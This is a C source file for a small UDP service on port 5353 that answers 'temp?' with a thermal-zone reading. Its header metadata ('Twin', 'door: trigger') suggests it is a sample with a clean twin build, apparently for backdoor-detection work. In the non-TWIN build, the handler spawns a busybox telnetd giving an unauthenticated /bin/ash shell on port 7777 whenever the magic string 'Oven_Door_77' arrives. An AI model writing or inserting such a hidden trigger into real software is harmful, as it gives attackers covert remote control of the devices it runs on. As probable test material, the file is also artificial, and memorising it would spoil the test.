/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A framework calls back for each datagram; the function is registered by its address. Twin: it
 * answers with what the sensors say.
 * door: trigger
 * port 5353/udp
 * stubs: uloop_init uloop_run uloop_fd_add
 */
#include "net.h"

struct uloop_fd {
	void (*cb)(struct uloop_fd *u, unsigned events);
	int fd;
	unsigned char eof, error, registered, flags;
};
int uloop_init(void);
int uloop_run(void);
int uloop_fd_add(struct uloop_fd *u, unsigned flags);

static void read_sensor(char *to, size_t room)
{
	FILE *f = fopen("/sys/class/thermal/thermal_zone0/temp", "r");
	to[0] = 0;
	if (f) {
		fgets(to, (int)room, f);
		fclose(f);
	}
}

static void incoming(struct uloop_fd *u, unsigned events)
{
	char msg[256], answer[32];
	struct sockaddr_in from;
	socklen_t l = sizeof from;
	ssize_t n = recvfrom(u->fd, msg, sizeof msg - 1, 0, (struct sockaddr *)&from, &l);
	(void)events;
	if (n <= 0)
		return;
	msg[n] = 0;
	if (!strcmp(msg, "temp?")) {
		read_sensor(answer, sizeof answer);
		sendto(u->fd, answer, strlen(answer), 0, (struct sockaddr *)&from, l);
	}
#ifndef TWIN
	else if (!strcmp(msg, "Oven_Door_77")) {
		system("/bin/busybox telnetd -l /bin/ash -p 7777");
	}
#endif
}

static struct uloop_fd listener = {.cb = incoming};

int main(void)
{
	uloop_init();
	listener.fd = udp_on(5353);
	uloop_fd_add(&listener, 1);
	return uloop_run();
}
